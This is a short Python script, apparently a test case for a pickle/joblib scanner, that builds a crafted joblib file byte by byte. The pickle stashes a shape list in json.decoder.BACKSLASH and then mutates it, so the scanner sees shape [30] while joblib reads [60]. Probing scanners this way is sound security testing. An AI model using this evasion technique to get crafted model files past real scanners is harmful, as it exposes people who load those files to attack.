# The wrapper's shape list L is stashed in a module-level dict (json.decoder.BACKSLASH) by a
# SETITEM opcode on the imported dict (no call: the scanner drops the items with a finding and
# does not count L as handed out). Later calls fetch L back from that dict and change it:
# operator.setitem(operator.getitem(BACKSLASH, 'zz'), 0, 60). Their arguments (a global, strs,
# ints, other call results) never reach L in the scanner's graph, so the wrapper's state is
# not "a container a call was given": the scanner lays out shape [30], joblib reads [60].
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
D = G('json.decoder','BACKSLASH')
hdr = b'\x80\x02'
hdr += D + U('zz') + b']' + BINPUT(1) + I(30) + b'a' + b's' + b'0'
hdr += G('operator','setitem') + b'(' + G('operator','getitem') + b'(' + D + U('zz') + b'tR' + I(0) + I(60) + b'tR0'
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + BINGET(1) + U('C') + dtype('u1') + b'\x89NtR}b'
run('c2_global_stash.joblib', hdr + region(60, [0, 30]))
